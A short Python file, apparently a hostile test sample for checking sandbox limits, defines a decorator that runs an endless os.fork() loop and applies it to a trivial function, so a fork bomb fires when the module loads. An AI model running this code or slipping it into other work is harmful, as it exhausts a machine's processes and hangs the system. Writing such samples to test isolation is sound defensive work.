"""Forks without end while its definitions are loaded, before any question has limits of its own."""
# bites: hang
# control: no it would take the machine's processes
import os


def bomb(function):
    while True:
        try:
            os.fork()
        except OSError:
            pass


@bomb
def double(x):
    return x
